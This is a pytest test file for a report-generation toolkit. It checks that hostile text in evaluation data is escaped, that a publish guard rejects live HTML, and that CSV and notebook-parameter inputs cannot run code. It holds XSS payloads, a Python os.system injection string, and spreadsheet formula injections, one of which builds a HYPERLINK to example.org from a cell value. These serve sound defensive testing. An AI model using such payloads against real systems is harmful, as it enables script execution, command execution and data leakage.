"""Text from the data never reaches a report page as live markup, and the last guard holds.

The demo evaluation is rewritten so that every free-text field a reader sees (report titles,
provider and site names, CMOC wording, programme theories, code names, source names and quoted
excerpts) carries a script and an event-handler payload. The report must publish (the payloads
are shown as text), and no page may hold a script, an event handler or an unsafe link.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
import yaml

from evalkit.demo import write_demo
from evalkit.disclosure.scan import scan_live_markup
from evalkit.errors import DisclosureError
from evalkit.pipeline import run_report
from evalkit.pipeline.committee_paper import COMMITTEE_PAPER, COMMITTEE_PAPER_PDF
from evalkit.pipeline.render import safe_markdown

SCRIPT = "<script>alert(1)</script>"
HANDLER = '<img src=x onerror="alert(2)">'
LINK = "[click](javascript:alert(3))"
PAYLOAD = f"{SCRIPT}{HANDLER}{LINK}"


def _rewrite_csv(path: Path, change) -> None:
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    for row in rows:
        change(row)
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    config_path = write_demo(root / "demo", episodes=400, seed=3)
    demo = config_path.parent
    site = f"North {PAYLOAD}"
    config = yaml.safe_load(config_path.read_text(encoding="utf-8"))
    config["sites"] = [site if s == "North" else s for s in config["sites"]]
    old_provider = config["providers"][0]["name"]
    provider = f"Northgate {PAYLOAD}"
    config["providers"][0]["name"] = provider
    config["titles"] = {key: f"{value} {PAYLOAD}" for key, value in config["titles"].items()}
    config_path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")

    def participants(row):
        row["site"] = site if row["site"] == "North" else row["site"]
        row["provider"] = provider if row["provider"] == old_provider else row["provider"]

    for path in (demo / "extracts").glob("*_participants.csv"):
        _rewrite_csv(path, participants)

    def sources(row):
        row["name"] = f"{row['name']} {PAYLOAD}"
        row["site"] = site if row["site"] == "North" else row["site"]

    _rewrite_csv(demo / "qual" / "sources.csv", sources)
    _rewrite_csv(demo / "qual" / "codebook.csv", lambda r: r.update(name=f"{r['name']} {HANDLER}"))

    def cmocs(row):
        for column in (
            "programme_theory",
            "context",
            "mechanism_resource",
            "mechanism_reasoning",
            "outcome",
        ):
            row[column] = f"{row[column]} {PAYLOAD}"
        row["codes"] = ";".join(f"{code} {HANDLER}" for code in row["codes"].split(";"))

    _rewrite_csv(demo / "qual" / "cmocs.csv", cmocs)
    _rewrite_csv(demo / "qual" / "codings.csv", lambda r: r.update(text=f"{r['text']} {SCRIPT}"))
    published = run_report(config_path, out=root / "reports", progress=lambda _: None)
    return published


def test_report_with_payloads_everywhere_publishes_with_nothing_live(hostile_report):
    pages = sorted(hostile_report.glob("*.html"))
    assert len(pages) == 7
    # the one link to a file that is not a page: the report's own committee paper
    assert scan_live_markup(pages, documents=(COMMITTEE_PAPER, COMMITTEE_PAPER_PDF)).empty
    text = "\n".join(p.read_text(encoding="utf-8") for p in pages)
    # belt and braces beside the parser: no raw tag or link from the payload survives
    assert not re.search(r"<script|<img src=x|href=\"?javascript", text, re.IGNORECASE)
    # the payload is shown to the reader as text, not dropped: the site and titles are there
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_the_publish_guard_refuses_live_markup(tmp_path):
    page = tmp_path / "page.html"
    cases = [
        "<p>x</p><script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        '<iframe src="https://example.org"></iframe>',
        '<meta http-equiv="refresh" content="0;url=https://example.org">',
        '<form action="https://example.org"><input></form>',
        '<svg><circle onload="alert(1)"/></svg>',
        '<div style="background:url(https://example.org/x.png)">x</div>',
    ]
    for markup in cases:
        page.write_text(f"<html><body>{markup}</body></html>", encoding="utf-8")
        assert len(scan_live_markup([page])), markup
    page.write_text(
        '<p><a href="02_wellbeing_outcomes.html">next</a> <a href="#content">top</a> '
        '<a href="https://www.gov.uk">gov</a> <img src="data:image/png;base64,iVBORw0K" '
        'alt="chart"></p>',
        encoding="utf-8",
    )
    assert scan_live_markup([page]).empty


def test_markdown_from_user_text_is_shown_as_text():
    html = safe_markdown(f"Site **{PAYLOAD}**: 12 people")
    assert "<script" not in html and "<img" not in html and "href" not in html
    assert "&lt;script&gt;" in html and '&lt;img src=x onerror="alert(2)"&gt;' in html
    assert "<strong>" in html and "<a>click</a>" in html  # the link is kept as text, inert


def test_a_page_with_live_markup_is_not_published(hostile_report, monkeypatch, tmp_path):
    """If escaping ever failed, the pre-publish scan stops the report (the guard is wired in)."""
    import evalkit.pipeline.render as render

    real = render.safe_markdown
    monkeypatch.setattr(render, "safe_markdown", lambda text: real(text) + SCRIPT)
    render.html_exporter.cache_clear()
    try:
        config = hostile_report.parents[2] / "demo" / "evaluation.yml"
        with pytest.raises(DisclosureError, match="live markup"):
            run_report(config, out=tmp_path / "reports", force=True, progress=lambda _: None)
    finally:
        render.html_exporter.cache_clear()
    assert not (tmp_path / "reports" / "2026-Q2").exists()


def test_papermill_injects_parameters_as_literals(tmp_path):
    """A configured site or period holding quotes and code is a string in the notebook."""
    import ast

    import nbformat
    from papermill.parameterize import parameterize_notebook

    marker = tmp_path / "ran"
    hostile = f"x'); __import__('os').system('touch {marker}')#\nimport os"
    notebook = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("site = 'all'", metadata={"tags": ["parameters"]})]
    )
    notebook.metadata["kernelspec"] = {"name": "python3", "language": "python"}
    notebook.metadata["papermill"] = {}
    injected = parameterize_notebook(notebook, {"site": hostile, "period": "2026-Q1"})
    (cell,) = [c for c in injected.cells if "injected-parameters" in c.metadata.get("tags", [])]
    tree = ast.parse(cell.source)
    values = {
        node.targets[0].id: ast.literal_eval(node.value)
        for node in tree.body
        if isinstance(node, ast.Assign)
    }
    assert values == {"site": hostile, "period": "2026-Q1"}
    assert all(isinstance(node, ast.Assign) for node in tree.body)
    assert not marker.exists()


def test_quarantine_and_issue_files_cannot_run_formulas(tmp_path):
    from evalkit.data.validate import validate_directory, write_validation

    extracts = tmp_path / "extracts"
    extracts.mkdir()
    (extracts / "p_participants.csv").write_text(
        "client_id,provider,site,referral_date,sex\n"
        '=HYPERLINK("https://example.org?"&A1),P,North,05/01/2026,male\n'
        "A2,P,@SUM(1+1),not a date,male\n"
        "A3,P,North,05/01/2026,\t=cmd\n",
        encoding="utf-8",
    )
    out = write_validation(validate_directory(tmp_path), tmp_path / "validated")
    for name in ("quarantine/participants.csv", "issues.csv"):
        text = (out / name).read_text(encoding="utf-8")
        cells = [cell for line in text.splitlines() for cell in line.split(",")]
        assert not [c for c in cells if c.lstrip('"').startswith(("=", "@", "\t"))], name
    assert "'=HYPERLINK" in (out / "quarantine" / "participants.csv").read_text(encoding="utf-8")
